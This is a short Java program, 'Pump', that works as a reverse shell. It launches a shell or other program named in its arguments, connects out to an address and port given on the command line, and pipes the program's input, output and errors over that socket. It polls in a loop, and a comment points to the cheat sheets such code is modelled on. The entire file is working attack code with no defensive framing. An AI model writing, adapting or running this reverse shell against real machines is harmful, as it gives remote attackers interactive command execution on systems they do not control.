import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;

/** A shell behind pipes that this process joins to a network peer: Pump before|after ADDRESS PORT PROGRAM [ARGS...]. */
public class Pump {
    public static void main(String[] arguments) throws Exception {
        boolean before = arguments[0].equals("before");
        String[] program = java.util.Arrays.copyOfRange(arguments, 3, arguments.length);
        Process shell = before ? Runtime.getRuntime().exec(program) : null;
        Socket socket = new Socket(arguments[1], Integer.parseInt(arguments[2]));
        if (shell == null) {
            shell = new ProcessBuilder(program).redirectErrorStream(true).start();
        }
        InputStream output = shell.getInputStream();
        InputStream errors = shell.getErrorStream();
        InputStream commands = socket.getInputStream();
        OutputStream input = shell.getOutputStream();
        OutputStream answers = socket.getOutputStream();
        while (!socket.isClosed()) {
            while (output.available() > 0) {
                answers.write(output.read());
            }
            while (errors.available() > 0) {
                answers.write(errors.read());
            }
            while (commands.available() > 0) {
                input.write(commands.read());
            }
            answers.flush();
            input.flush();
            // The form of the cheat sheets: look again and again.
            Thread.sleep(50);
            if (!shell.isAlive()) {
                socket.close();
            }
        }
    }
}
